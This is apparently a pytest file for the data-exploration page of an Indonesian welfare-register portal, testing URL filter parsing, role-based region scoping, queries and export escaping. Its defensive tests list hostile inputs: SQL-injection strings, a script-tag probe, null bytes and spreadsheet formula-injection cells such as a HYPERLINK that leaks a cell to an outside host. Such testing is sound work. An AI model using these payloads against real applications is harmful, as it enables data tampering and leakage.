"""The Eksplorasi page: filter spec ↔ URL, hostile parameters, scope; the explore_* queries' known answers on
the fixture register and on a few hand-made rows for the edges; exports opened back; the page in AppTest."""

from __future__ import annotations

import csv
import io
import re
import shutil
import time
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from portal import access, charts, data, db, explore, export
from portal.db import Register
from portal.explore import FilterSpec
from portal.snapshot import read_manifest
from portal.store import open_store
from tests.conftest import create_staff, reset_portal_caches, signed_in
from tests.fixture_register import A, B

REPO = Path(__file__).resolve().parents[1]
PAGE = str(REPO / "pages" / "eksplorasi.py")
USERS = {"pusat1": ("pusat", ""), "jogja": ("kabupaten", "3471"), "analis1": ("analis", "")}
PERIODS = ("2026-06", "2026-09")
END = date(2026, 9, 30)
NATION = dict(
    periode="2026-09",
    akhir=END,
    provinsi=None,
    wilayah=None,
    desa_dari="0000000000",
    desa_sampai="9999999999",
    programs=None,
    desils=None,
    kelamin=None,
    umur=None,
    disabilitas=None,
    status=None,
)
SORT = {"urut": "kode_desa", "turun": False}  # the default order


# --- the spec and its URL ---------------------------------------------------------------------------------


def test_url_round_trip() -> None:
    spec = FilterSpec(
        periode="2026-09",
        kab=("3471",),
        kec=("347101", "347102"),
        program=("tanpa", "pkh"),
        desil=("kosong", "10", "1"),
        kelamin=("P",),
        umur=("60+", "0-5"),
        disabilitas=("ya",),
        status=("nonaktif",),
        tingkat="keluarga",
        baris="kecamatan",
        kolom="desil",
        lihat="baris",
        hal=3,
    )
    params = spec.to_params()
    assert params == {
        "periode": "2026-09",
        "tingkat": "keluarga",
        "kab": "3471",
        "kec": "347101,347102",
        "program": "pkh,tanpa",
        "desil": "1,10,kosong",
        "jk": "P",
        "umur": "0-5,60+",
        "disabilitas": "ya",
        "status": "nonaktif",
        "baris": "kecamatan",
        "kolom": "desil",
        "lihat": "baris",
        "hal": "3",
    }
    back = explore.parse_params(params, PERIODS)
    assert back.notes == ()
    assert back.spec.to_params() == params
    assert back.spec.program == ("pkh", "tanpa")  # canonical order, whatever order came in
    assert FilterSpec().to_params() == {}


def test_repeated_keys_and_hand_typed_values_are_read() -> None:
    parsed = explore.parse_params({"jk": ["l", "P"], "umur": "60 ", "program": "PBI-JK, blt_dd"}, PERIODS)
    assert parsed.notes == ()
    assert parsed.spec.kelamin == ("L", "P")
    assert parsed.spec.umur == ("60+",)  # '60+' typed by hand arrives as '60 '
    assert parsed.spec.program == ("pbi_jk", "blt_dd")


HOSTILE = [
    ({"kab": "'; drop view individu_all; --"}, "kab", ()),
    ({"kec": "34710,3471011,abcdef,347101"}, "kec", ("347101",)),
    ({"desil": "0,11,-1,1"}, "desil", ("1",)),
    ({"program": "<script>alert(1)</script>"}, "program", ()),
    ({"baris": "nik"}, "baris", ""),
    ({"baris": "nama_ibu_kandung", "kolom": "desil"}, "baris", "desil"),
    ({"hal": "0"}, "hal", 1),
    ({"hal": "9" * 40}, "hal", 1),
    ({"hal": "9" * 5000}, "hal", 1),  # past Python's limit for turning digits into an int
    ({"hal": "٣"}, "hal", 1),  # an Arabic-Indic digit is a digit to str.isdigit, not to us
    ({"periode": "2099-01"}, "periode", None),
    ({"periode": "2026-09' or 1=1 --"}, "periode", None),
    ({"tingkat": "semua"}, "tingkat", "individu"),
    ({"lihat": "nik"}, "lihat", "agregat"),
    ({"desa": "3471011001\x00,3402012001"}, "desa", ("3402012001",)),
    ({"desa": "🙂👍🏽"}, "desa", ()),
    ({"kab": "3471," * 3000}, "kab", ()),  # 15 kB: too long, dropped whole
    ({"jk": "L", "x" * 5000: "1"}, "kelamin", ("L",)),
]


@pytest.mark.parametrize(("raw", "attr", "expected"), HOSTILE)
def test_hostile_parameters_are_dropped_with_a_note(raw: dict[str, str], attr: str, expected: object) -> None:
    parsed = explore.parse_params(raw, PERIODS)
    assert getattr(parsed.spec, attr) == expected
    assert parsed.notes, "every dropped value is reported"
    for note in parsed.notes:
        assert len(note) < 300
        assert not set(note) & set("<>*_`[]\x00"), note  # nothing a Markdown renderer would act on


def test_same_dimension_twice_and_column_without_rows() -> None:
    assert explore.parse_params({"baris": "desil", "kolom": "desil"}, PERIODS).spec.kolom == ""
    lone = explore.parse_params({"kolom": "status"}, PERIODS).spec
    assert (lone.baris, lone.kolom) == ("status", "")


def test_scope_refuses_outside_codes_and_narrows_containing_ones() -> None:
    spec = FilterSpec(prov=("31", "34"), kab=("3171", "3471"), kec=("347101", "317101"))
    scoped = explore.apply_scope(spec, "3471")
    assert scoped.refused == ("31", "3171", "317101")
    assert scoped.narrowed  # prov 34 contains the scope
    assert (scoped.spec.prov, scoped.spec.kab, scoped.spec.kec) == ((), (), ("347101",))
    assert explore.fixed_levels("3471") == ("prov", "kab")
    same = explore.apply_scope(FilterSpec(kab=("3471",)), "3471")
    assert (same.refused, same.narrowed, same.spec.kab) == ((), False, ())


def test_pusat_gets_implied_parents() -> None:
    scoped = explore.apply_scope(FilterSpec(desa=(A,), kab=("3171",)), "")
    assert scoped.refused == ()
    assert scoped.spec.prov == ("31", "34")
    assert scoped.spec.kab == ("3171", "3471")
    assert scoped.spec.kec == ("347101",)
    # the finest choice in each branch: desa A, and kab 3171 whole
    assert explore.chosen_regions(scoped.spec, "") == ("3171", A)


def test_query_parameters_carry_the_partitions_and_range() -> None:
    spec = FilterSpec(prov=("31", "34"), kab=("3471",), program=("pkh",))
    params = explore.query_params(spec, "", END)
    assert params["wilayah"] == ("31", "3471")
    assert params["provinsi"] == ("31", "34")
    assert (params["desa_dari"], params["desa_sampai"]) == ("3100000000", "3471999999")
    assert params["programs"] == ("pkh",) and params["desils"] is None
    nation = explore.query_params(FilterSpec(), "", END)
    assert (nation["wilayah"], nation["provinsi"]) == (None, None)
    scoped = explore.query_params(FilterSpec(), "3471", END)
    assert (scoped["wilayah"], scoped["provinsi"]) == (("3471",), ("34",))


def test_grouped_and_pivot_tables() -> None:
    counts = pd.DataFrame(
        {
            "baris": ["kosong", "10", "2", "2"],
            "baris_nama": [None] * 4,
            "kolom": ["L", "P", "L", "P"],
            "kolom_nama": [None] * 4,
            "jumlah": [4, 1, 2, 3],
            "total": [10] * 4,
        }
    )
    pivot = explore.grouped_table(counts, "desil", "jenis_kelamin")
    assert list(pivot.columns) == ["Desil", "Laki-laki", "Perempuan", "Total"]
    assert pivot.values.tolist() == [["Desil 2", 2, 3, 5], ["Desil 10", 0, 1, 1], ["Desil kosong", 4, 0, 4]]
    single = explore.grouped_table(counts, "desil", "")
    assert single.values.tolist() == [["Desil 2", 5], ["Desil 10", 1], ["Desil kosong", 4]]
    programmes = counts.assign(kolom=["pkh", "tanpa", "pkh", "bpnt"])
    assert "Total" not in explore.grouped_table(programmes, "desil", "program").columns
    empty = explore.grouped_table(counts.iloc[0:0], "desil", "")
    assert list(empty.columns) == ["Desil", "Jumlah"] and empty.empty


def test_chart_keeps_the_largest_groups() -> None:
    table = pd.DataFrame({"Desa/kelurahan": [f"D{i}" for i in range(50)], "Jumlah": list(range(50))})
    shown = explore.chart_table(table, limit=5)
    assert list(shown["Jumlah"]) == [49, 48, 47, 46, 45]
    fig = charts.grouped_counts_figure(shown, "Jumlah individu")
    assert len(fig.data) == 1 and list(fig.data[0].y) == ["D49", "D48", "D47", "D46", "D45"]
    pivot = pd.DataFrame({"Desil": ["Desil 1"], "Laki-laki": [2], "Perempuan": [1]})
    assert [t.name for t in charts.grouped_counts_figure(pivot, "Jumlah").data] == ["Laki-laki", "Perempuan"]


def test_describe_in_words() -> None:
    spec = FilterSpec(kec=("347101",), program=("pkh", "tanpa"), baris="desil", kolom="jenis_kelamin")
    lines = dict(explore.describe(spec, "3471", {"347101": "Tegalrejo"}))
    assert lines["Wilayah"] == "Tegalrejo (347101)"
    assert lines["Program"] == "PKH, Tanpa program"
    assert lines["Desil"] == "Semua"
    assert lines["Dikelompokkan menurut"] == "Desil × Jenis kelamin"
    assert dict(explore.describe(FilterSpec(), "", {}))["Wilayah"] == "Seluruh Indonesia"


# --- the queries on the fixture register ------------------------------------------------------------------


def _counts(register: Register, level: str, baris: str, kolom: str = "", **filters: object) -> dict:
    frame = register.run(f"explore_{level}_counts", **{**NATION, **filters}, dim_baris=baris, dim_kolom=kolom)
    total = int(frame["total"].iloc[0]) if len(frame) else 0
    if kolom:
        return {(r.baris, r.kolom): int(r.jumlah) for r in frame.itertuples()}, total
    return {r.baris: int(r.jumlah) for r in frame.itertuples()}, total


def _kab(kode: str) -> dict[str, object]:
    return dict(provinsi=(kode[:2],), wilayah=(kode,), desa_dari=kode + "000000", desa_sampai=kode + "999999")


def test_individuals_by_desil(register: Register) -> None:
    # families 1 (desil 1, 3 people), 2 (desil 2, 2), 3 (desil 7, 1), 4 (no desil, 2), 5 (desil 4, 2), 6 (desil 8, 1)
    assert _counts(register, "individu", "desil") == ({"1": 3, "2": 2, "7": 1, "kosong": 2, "4": 2, "8": 1}, 11)


def test_families_by_desil_and_status(register: Register) -> None:
    assert _counts(register, "keluarga", "desil") == ({"1": 1, "2": 1, "7": 1, "kosong": 1, "4": 1, "8": 1}, 6)
    assert _counts(register, "keluarga", "status") == ({"aktif": 5, "nonaktif": 1}, 6)  # JOKO SUSILO's family
    assert _counts(register, "individu", "status") == ({"aktif": 10, "nonaktif": 1}, 11)


def test_by_kecamatan_with_a_programme_filter(register: Register) -> None:
    # PBI-JK: families 1 (3 people) and 3 (1) in kecamatan 347101, family 4 (2 people) in 340201
    frame = register.run(
        "explore_individu_counts", **{**NATION, "programs": ("pbi_jk",)}, dim_baris="kecamatan", dim_kolom=""
    )
    assert dict(zip(frame["baris"], frame["jumlah"], strict=True)) == {"347101": 4, "340201": 2}
    assert frame.set_index("baris").at["347101", "baris_nama"] == "Tegalrejo"
    none = _counts(register, "keluarga", "kecamatan", programs=("tanpa",))
    assert none == ({"347101": 1, "317101": 1}, 2)  # WARSINAH (A) and JOKO SUSILO (C) receive nothing


def test_programme_dimension_counts_each_programme(register: Register) -> None:
    # kab 3471: family 1 (3 people: PKH, BPNT, PBI-JK), family 2 (2 people: none), family 3 (1 person: PBI-JK)
    got = _counts(register, "individu", "program", **_kab("3471"))
    assert got == ({"pkh": 3, "bpnt": 3, "pbi_jk": 4, "tanpa": 2}, 6)


def test_pivot_sex_by_desil(register: Register) -> None:
    got, total = _counts(register, "individu", "jenis_kelamin", "desil", **_kab("3471"))
    assert got == {("L", "1"): 2, ("L", "7"): 1, ("P", "1"): 1, ("P", "2"): 2}
    assert total == 6


def test_region_lists_and_scope_range(register: Register) -> None:
    both = dict(provinsi=("34",), wilayah=(A, "3402"), desa_dari="3402000000", desa_sampai=A)
    assert _counts(register, "individu", "desa", **both) == ({A: 6, B: 2}, 8)
    assert _counts(register, "keluarga", "", wilayah=("31",), provinsi=("31",)) == ({"semua": 2}, 2)
    assert _counts(register, "individu", "", periode="2026-06") == ({"semua": 10}, 10)


@pytest.mark.parametrize(
    ("akhir", "band"),
    [
        # everyone in the fixture was born on 1985-07-15
        (date(1991, 7, 14), "0-5"),
        (date(1991, 7, 15), "6-17"),
        (date(2003, 7, 14), "6-17"),
        (date(2003, 7, 15), "18-59"),
        (date(2045, 7, 14), "18-59"),
        (date(2045, 7, 15), "60+"),
    ],
)
def test_age_band_edges(register: Register, akhir: date, band: str) -> None:
    assert _counts(register, "individu", "kelompok_umur", akhir=akhir) == ({band: 11}, 11)
    assert _counts(register, "individu", "", akhir=akhir, umur=(band,))[1] == 11


def test_disability_and_sex_filters(register: Register) -> None:
    assert _counts(register, "individu", "disabilitas") == ({"tidak": 11}, 11)  # no kd_sulit_* in the fixture
    assert _counts(register, "individu", "", disabilitas=("ya",)) == ({}, 0)
    # women: SITI, WARSINAH, SURYANI (A), SUPARMI (B), NUR HALIMAH (C)
    assert _counts(register, "individu", "", kelamin=("P",))[1] == 5
    assert _counts(register, "individu", "jenis_kelamin") == ({"L": 6, "P": 5}, 11)
    assert _counts(register, "individu", "", kelamin=("P",), desils=("1", "kosong"))[1] == 2


def test_rows_page_and_no_mothers_name(register: Register) -> None:
    rows = register.run("explore_individu_rows", **{**NATION, **_kab("3471")}, batas=2, mulai=2, **SORT)
    # ordered by desa, name: ANDI, BUDI, HENDRA, SITI, SURYANI, WARSINAH; the second page of two
    assert list(rows["nama"]) == ["HENDRA WIJAYA", "SITI AMINAH"]
    assert "nama_ibu_kandung" not in rows.columns
    assert list(rows["program"]) == ["PBI-JK", "PKH, BPNT, PBI-JK"]
    assert list(rows["nama_desa"]) == ["Kricak", "Kricak"]
    assert list(rows["desil"]) == [7, 1]  # a number, not text
    missing = register.run("explore_individu_rows", **{**NATION, "desils": ("kosong",)}, batas=50, mulai=0, **SORT)
    assert list(missing["nama"]) == ["SUPARMAN", "SUPARMI"] and missing["desil"].isna().all()
    families = register.run("explore_keluarga_rows", **{**NATION, "status": ("nonaktif",)}, batas=50, mulai=0, **SORT)
    assert list(families["nama_kepala_keluarga"]) == ["JOKO SUSILO"]
    assert families["alasan_nonaktif"].iloc[0] == "mampu"
    assert families["program"].iloc[0] == "tanpa program"
    assert "nama_ibu_kandung" not in families.columns


@pytest.mark.parametrize("text", ["'; drop view individu_all; --", "%", "x" * 10_000, "a\x00b", "🙂"])
def test_hostile_list_values_are_data(register: Register, text: str) -> None:
    for name in ("explore_individu_counts", "explore_keluarga_counts"):
        frame = register.run(name, **{**NATION, "wilayah": (text,), "desils": (text,)}, dim_baris=text, dim_kolom=text)
        assert frame.empty
    assert _counts(register, "individu", "")[1] == 11  # nothing was dropped


# --- edges on a few hand-made rows ------------------------------------------------------------------------

SULIT = [
    "kd_sulit_melihat",
    "kd_sulit_mendengar",
    "kd_sulit_berjalan",
    "kd_sulit_menggunakan_tangan",
    "kd_sulit_mengingat",
    "kd_sulit_mengurus_diri",
    "kd_sulit_berkomunikasi",
]


def _person(pid: int, fid: int, born: date | None, sex: str, role: str, sulit: str | None = None) -> dict:
    return {
        "periode": "2026-09",
        "kode_prov": "34",
        "kode_kab": "3471",
        "kode_kec": "347101",
        "kode_desa": A,
        "id_dtks": pid,
        "id_keluarga": fid,
        "nik": f"34710100000000{pid:02d}",
        "no_kk": f"34710100000000{fid:02d}",
        "nama": f"ORANG {pid}",
        "jenis_kelamin": sex,
        "tanggal_lahir": born,
        "hubungan_keluarga": role,
        "rt": "001",
        "rw": "001",
        "status_aktif": True,
        "keberadaan": "ada",
        **{c: c == sulit for c in SULIT},
    }


@pytest.fixture(scope="module")
def edges() -> Iterator[duckdb.DuckDBPyConnection]:
    """Family 1: two heads (the lower id, a man of 59, counts) and members at every age edge on 2026-09-30;
    family 2 has no head. Two people have a disability, each through a different kd_sulit_* item."""
    people = pd.DataFrame(
        [
            _person(1, 1, date(1966, 10, 1), "L", "kepala keluarga"),  # 59
            _person(2, 1, date(1950, 1, 1), "P", "kepala keluarga", "kd_sulit_mengingat"),  # 76, second head
            _person(3, 1, date(2020, 10, 1), "P", "anak"),  # 5
            _person(4, 1, date(2020, 9, 30), "L", "anak"),  # 6
            _person(5, 1, date(2008, 10, 1), "P", "anak"),  # 17
            _person(6, 1, date(2008, 9, 30), "L", "anak"),  # 18
            _person(7, 1, date(1966, 9, 30), "L", "lainnya"),  # 60
            _person(8, 2, None, "P", "anak", "kd_sulit_berkomunikasi"),  # birth date unknown
        ]
    )
    families = pd.DataFrame(
        [
            {
                "periode": "2026-09",
                "kode_prov": "34",
                "kode_kab": "3471",
                "kode_kec": "347101",
                "kode_desa": A,
                "id_keluarga": fid,
                "no_kk": f"34710100000000{fid:02d}",
                "nama_kepala_keluarga": f"KELUARGA {fid}",
                "alamat": "-",
                "rt": "001",
                "rw": "001",
                "jumlah_art": 1,
                "desil": desil,
                "status_aktif": True,
                "alasan_nonaktif": None,
                "tanggal_verivali": date(2026, 1, 1),
                "prog_pkh": fid == 1,
                "prog_bpnt": False,
                "prog_pbi_jk": False,
                "prog_blt_dd": None,
            }
            for fid, desil in ((1, 3), (2, None))
        ]
    )
    families["desil"] = families["desil"].astype("Int8")  # as in the register's schema
    con = duckdb.connect()
    con.register("people_src", people)
    con.register("families_src", families)
    con.execute("create view individu_all as select * from people_src")
    con.execute("create view keluarga_all as select * from families_src")
    con.execute("create view wilayah_kecamatan as select '347101' as kode_kec, 'Tegalrejo' as nama_kec")
    con.execute(f"create view wilayah_desa as select '{A}' as kode_desa, 'Kricak' as nama_desa")
    con.execute(db.load_sql("macros"))  # as portal.db.register_views does for the register
    yield con
    con.close()


def _edge_counts(con: duckdb.DuckDBPyConnection, level: str, baris: str, **filters: object) -> dict[str, int]:
    params = {**NATION, **filters, "dim_baris": baris, "dim_kolom": ""}
    name = f"explore_{level}_counts"
    frame = con.execute(db.load_sql(name), {k: params[k] for k in db.query_params(name)}).df()
    return {r.baris: int(r.jumlah) for r in frame.itertuples()}


def test_age_bands_at_the_period_end(edges: duckdb.DuckDBPyConnection) -> None:
    assert _edge_counts(edges, "individu", "kelompok_umur") == {
        "0-5": 1,
        "6-17": 2,
        "18-59": 2,
        "60+": 2,
        "kosong": 1,
    }


def test_any_difficulty_is_a_disability(edges: duckdb.DuckDBPyConnection) -> None:
    assert _edge_counts(edges, "individu", "disabilitas") == {"ya": 2, "tidak": 6}
    assert _edge_counts(edges, "individu", "desil", disabilitas=("ya",)) == {"3": 1, "kosong": 1}


def test_families_take_the_head_and_count_once(edges: duckdb.DuckDBPyConnection) -> None:
    # family 1's head is person 1 (lowest id of two heads): a man of 59 without a disability; family 2 has none
    assert _edge_counts(edges, "keluarga", "jenis_kelamin") == {"L": 1, "kosong": 1}
    assert _edge_counts(edges, "keluarga", "kelompok_umur") == {"18-59": 1, "kosong": 1}
    assert _edge_counts(edges, "keluarga", "disabilitas") == {"tidak": 1, "kosong": 1}
    # a null programme flag is 'no': family 2 receives nothing
    assert _edge_counts(edges, "keluarga", "program") == {"pkh": 1, "tanpa": 1}
    # a head filter without a head dimension still reads the heads
    assert _edge_counts(edges, "keluarga", "desil", kelamin=("L",)) == {"3": 1}
    assert _edge_counts(edges, "keluarga", "desil", umur=("18-59",)) == {"3": 1}


def test_family_rows_show_the_head(edges: duckdb.DuckDBPyConnection) -> None:
    name = "explore_keluarga_rows"
    params = {**NATION, "batas": 50, "mulai": 0, **SORT}
    rows = edges.execute(db.load_sql(name), {k: params[k] for k in db.query_params(name)}).df()
    assert list(rows["id_keluarga"]) == [1, 2]
    assert list(rows["jenis_kelamin"]) == ["L", "kosong"]
    assert rows["usia"].iloc[0] == 59 and pd.isna(rows["usia"].iloc[1])
    assert list(rows["disabilitas"]) == ["tidak", "kosong"]
    params["disabilitas"] = ("kosong",)
    only = edges.execute(db.load_sql(name), {k: params[k] for k in db.query_params(name)}).df()
    assert list(only["id_keluarga"]) == [2]


# --- exports ----------------------------------------------------------------------------------------------

HOSTILE_CELLS = ['=HYPERLINK("http://x.test/?a="&A1,"klik")', "+1", "-2+3", "@SUM(A1)", "\t=1+1", " =1", "\r@x"]
WHEN = datetime(2026, 11, 23, 3, 15, tzinfo=UTC)  # 10:15 WIB


def _export_table() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "nama": [*HOSTILE_CELLS, "BUDI SANTOSO"],
            "jumlah": [-2, -1, 0, 1, 2, 3, 4, 5],
            "rasio": [-1.5, 0.25, None, 1.0, 2.0, 3.0, 4.0, 5.0],
        }
    )


def _header() -> export.Header:
    return export.header_block(
        "Eksplorasi DTKS — baris",
        "September 2026 (2026-09)",
        [("Wilayah", "Tegalrejo (347101)"), ("Program", "PKH")],
        "=jogja",
        WHEN,
        export.cap_note(100_001),
    )


def test_csv_has_the_header_and_no_formula() -> None:
    raw = export.to_csv(_export_table(), _header())
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["Judul", "Eksplorasi DTKS — baris"]
    assert rows[1] == ["Periode", "September 2026 (2026-09)"]
    assert ["Wilayah", "Tegalrejo (347101)"] in rows
    assert ["Dibuat", "23-11-2026 10:15 WIB"] in rows
    assert ["Oleh", "'=jogja"] in rows  # a hostile user name is escaped too
    assert ["Catatan", "Ekspor dibatasi 100.000 baris pertama dari 100.001 baris yang cocok."] in rows
    start = rows.index([]) + 1
    assert rows[start] == ["nama", "jumlah", "rasio"]
    body = rows[start + 1 :]
    assert [r[0] for r in body] == ["'" + h for h in HOSTILE_CELLS] + ["BUDI SANTOSO"]
    assert [r[1] for r in body[:2]] == ["-2", "-1"]  # real negative numbers are not escaped
    assert body[0][2] == "-1.5" and body[2][2] == ""
    for row in rows:
        for cell in row:  # only a real number may begin with a trigger character
            assert not cell.lstrip(" ").startswith(export.TRIGGERS) or re.fullmatch(r"-[0-9.]+", cell), cell


def test_xlsx_has_the_header_and_no_formula() -> None:
    book = openpyxl.load_workbook(io.BytesIO(export.to_xlsx(_export_table(), _header())))
    sheet = book.active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    assert sheet["A1"].value == "Judul" and sheet["B2"].value == "September 2026 (2026-09)"
    labels = {sheet.cell(r, 1).value: sheet.cell(r, 2).value for r in range(1, 9)}
    assert labels["Dibuat"] == "23-11-2026 10:15 WIB"
    assert labels["Oleh"] == "=jogja" and labels["Program"] == "PKH"
    top = next(r for r in range(1, 20) if sheet.cell(r, 1).value == "nama")
    names = [sheet.cell(top + 1 + i, 1) for i in range(len(HOSTILE_CELLS))]
    # the text is kept as it was (XML reads a carriage return back as a line feed)
    assert [c.value for c in names] == [h.replace("\r", "\n") for h in HOSTILE_CELLS]
    assert all(c.data_type == "s" and c.quotePrefix for c in names)
    first = sheet.cell(top + 1, 2)
    assert first.value == -2 and first.data_type == "n"
    assert sheet.cell(top + 1, 3).value == -1.5 and sheet.cell(top + 3, 3).value is None


def test_cap_note_only_above_the_cap() -> None:
    assert export.cap_note(export.ROW_CAP) is None
    assert export.ROW_CAP == 100_000
    assert export.file_name("agregat", "2026-09", WHEN, "csv") == "eksplorasi-agregat-2026-09-20261123-1015.csv"


# --- the page ---------------------------------------------------------------------------------------------


@pytest.fixture
def env(portal_env: str) -> Iterator[str]:
    create_staff(portal_env, USERS)
    yield portal_env


def _page(user: str, query: dict[str, str] | None = None) -> AppTest:
    role, region = USERS[user]
    at = AppTest.from_file(PAGE, default_timeout=60)
    now = time.time()
    at.session_state["staf"] = {
        "scope": access.Scope(role, region, user),
        "mulai": now,
        "terakhir": now,
        "metode": "lokal",
    }
    at.query_params.update(query or {})
    return at.run()


def _audit(url: str, action: str) -> list:
    store = open_store(url)
    try:
        return [e for e in store.audit_log() if e.action == action]
    finally:
        store.close()


def test_pusat_signs_in_and_groups_by_desil(env: str) -> None:
    at = signed_in("pusat1")
    at.switch_page("pages/eksplorasi.py").run()
    assert not at.exception, at.exception
    assert at.metric[0].value == "11"
    at.selectbox(key="eks_baris").set_value("desil").run()
    assert not at.exception, at.exception
    table = at.dataframe[0].value
    assert dict(zip(table["Desil"], table["Jumlah"], strict=True)) == {
        "Desil 1": 3,
        "Desil 2": 2,
        "Desil 4": 2,
        "Desil 7": 1,
        "Desil 8": 1,
        "Desil kosong": 2,
        "Total": 11,  # the totals row
    }
    assert at.query_params["baris"] == "desil" and at.query_params["periode"] == "2026-09"
    at.toggle(key="eks_lihat").set_value(True).run()
    rows = at.dataframe[-1].value
    assert len(rows) == 11 and "nama" in rows.columns and "nik" not in rows.columns  # identifiers on request
    assert list(rows["jenis_kelamin"].unique()) != ["L", "P"] and set(rows["jenis_kelamin"]) <= {
        "Laki-laki",
        "Perempuan",
    }
    assert [e.actor for e in _audit(env, "lihat_baris")] == ["pusat1"]
    chooser = at.multiselect(key="eks_kolom_tampil_individu")
    assert "NIK" in chooser.options and not [o for o in chooser.options if "ibu" in o.lower()]
    chooser.set_value(["nik", "nama", "usia"]).run()
    rows = at.dataframe[-1].value
    assert list(rows.columns) == ["nik", "nama", "usia"]
    views = _audit(env, "lihat_baris")  # another set of columns is another view of the rows, audited
    assert sorted(len(v.detail["kolom_tampil"]) for v in views) == [3, 9]  # the defaults, then nik, nama, usia


def test_the_served_register_says_which_tables_it_has(env: str) -> None:
    assert data.has_table("explore_cube_individu") and data.has_table("explore_cube_keluarga")
    assert data.has_table("individu") and not data.has_table("explore_cube_desa")


def test_a_register_built_before_the_cube_counts_live(
    env: str, fixture_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A register whose derived tables predate the Eksplorasi cube (served without `setup`) still answers, from
    the live query, with the same figures."""
    old = tmp_path / "before-cube"
    shutil.copytree(fixture_dir, old)
    root = old / "register" / read_manifest(old / "register").generation
    for table in ("explore_cube_individu", "explore_cube_keluarga"):
        shutil.rmtree(root / table)
    monkeypatch.setenv("PORTAL_DATA_DIR", str(old))
    reset_portal_caches()
    at = _page("pusat1", {"baris": "desil"})
    assert not at.exception, at.exception
    assert not at.error
    table = at.dataframe[0].value
    assert dict(zip(table["Desil"], table["Jumlah"], strict=True))["Total"] == 11


def test_a_shared_link_reproduces_the_view(env: str) -> None:
    link = {"kec": "347101", "program": "pbi_jk", "baris": "jenis_kelamin", "kolom": "desil", "hal": "99"}
    at = _page("pusat1", link)
    assert not at.exception, at.exception
    assert "hal" not in at.query_params  # page 99 of 1: back to the first page
    assert at.query_params["kab"] == "3471"  # the implied parents are written into the link
    assert at.session_state["eks_prov"] == ["34"] and at.session_state["eks_kab"] == ["3471"]
    table = at.dataframe[0].value
    # PBI-JK in kecamatan 347101: family 1 (BUDI L, SITI P, ANDI L; desil 1) and family 3 (HENDRA L; desil 7)
    assert table.to_dict("list") == {
        "Jenis kelamin": ["Laki-laki", "Perempuan", "Total"],
        "Desil 1": [2, 1, 3],
        "Desil 7": [1, 0, 1],
        "Total": [3, 1, 4],
    }
    assert at.metric[0].value == "4"


def test_kabupaten_choices_are_its_kecamatan_and_other_regions_are_refused(env: str) -> None:
    at = _page("jogja", {"kab": "3171", "desil": "1,2,99", "nik": "3471015507850003"})
    assert not at.exception, at.exception
    assert any("3171" in e.value for e in at.error)
    assert any("99" in w.value for w in at.warning) and any("nik" in w.value for w in at.warning)
    refusals = _audit(env, "ditolak")
    assert len(refusals) == 1 and refusals[0].actor == "jogja" and "3171" in str(refusals[0].detail)
    assert "kab" not in at.query_params and at.query_params["desil"] == "1,2"
    kec = at.multiselect(key="eks_kec")
    assert len(kec.options) == 14  # the 14 kecamatan of Kota Yogyakarta, and nothing else
    assert all(re.search(r"\(3471[0-9]{2}\)$", o) for o in kec.options), kec.options
    assert {m.key for m in at.multiselect} >= {"eks_kec", "eks_desa"}
    assert not {m.key for m in at.multiselect} & {"eks_prov", "eks_kab"}  # fixed by the scope
    # desil 1 and 2 in Kota Yogyakarta: families 1 (3 people) and 2 (2 people)
    assert at.metric[0].value == "5"
    at.multiselect(key="eks_desil").set_value([]).run()
    at.selectbox(key="eks_baris").set_value("kecamatan").run()
    table = at.dataframe[0].value
    assert table.to_dict("list") == {"Kecamatan": ["Tegalrejo (347101)", "Total"], "Jumlah": [6, 6]}


def test_analyst_sees_aggregates_only(env: str) -> None:
    at = _page("analis1", {"baris": "status", "lihat": "baris"})
    assert not at.exception, at.exception
    assert any("tidak memiliki akses" in e.value for e in at.error)
    assert len(at.dataframe) == 1  # the aggregate table, no rows
    assert at.dataframe[0].value.to_dict("list") == {"Status": ["Aktif", "Nonaktif", "Total"], "Jumlah": [10, 1, 11]}
    assert [t.key for t in at.toggle] == ["eks_rasio", "eks_peta"]  # no rows toggle, no row controls
    at.toggle(key="eks_rasio").set_value(True).run()
    assert len(at.dataframe) == 2 and "nik" not in at.dataframe[1].value.columns
    assert not [m for m in at.multiselect if m.key.startswith("eks_kolom_tampil")]
    refusals = _audit(env, "ditolak")
    assert [(r.actor, r.detail["halaman"]) for r in refusals] == [("analis1", "eksplorasi_baris")]
    assert "lihat" not in at.query_params
    analyst = access.Scope("analis", "", "analis1")
    with pytest.raises(access.AccessDenied):
        data.person_rows(analyst, "", "explore_individu_rows", **NATION, batas=10, mulai=0, **SORT)
    jogja = access.Scope("kabupaten", "3471", "jogja")
    with pytest.raises(access.AccessDenied):
        data.person_rows(jogja, "", "explore_individu_rows", **NATION, batas=10, mulai=0, **SORT)
    assert (
        len(
            data.person_rows(
                jogja, "3471", "explore_individu_rows", **{**NATION, **_kab("3471")}, batas=10, mulai=0, **SORT
            )
        )
        == 6
    )


# role → (its region, individuals in it on 2026-09, a URL parameter outside it)
ROLES = {
    "pusat": ("", 11, None),
    "provinsi": ("34", 8, ("kab", "3171")),  # desa A (6 people) and B (2)
    "kabupaten": ("3471", 6, ("kec", "340201")),
    "kecamatan": ("347101", 6, ("desa", B)),
    "desa": (A, 6, ("desa", "3471011002")),
    "analis": ("34", 8, ("prov", "31")),
}


@pytest.mark.parametrize("role", list(ROLES))
def test_every_role_sees_its_own_region_only(env: str, role: str) -> None:
    region, people, outside = ROLES[role]
    at = AppTest.from_file(PAGE, default_timeout=60)
    now = time.time()
    user = f"user-{role}"
    at.session_state["staf"] = {
        "scope": access.Scope(role, region, user),
        "mulai": now,
        "terakhir": now,
        "metode": "uji",
    }
    if outside:
        at.query_params[outside[0]] = outside[1]
    at.run()
    assert not at.exception, at.exception
    assert at.metric[0].value == str(people)
    refusals = [e for e in _audit(env, "ditolak") if e.actor == user]
    assert len(refusals) == (1 if outside else 0)
    if outside:
        assert outside[1] in str(refusals[0].detail["kode"]) and outside[0] not in at.query_params


def test_a_hostile_link_gives_notes_not_a_traceback(env: str) -> None:
    link = {
        "kab": "<b>3471</b>",
        "desil": "🙂,**1**",
        "baris": "'; drop view individu_all; --",
        "hal": "-1",
        "periode": "2026-13",
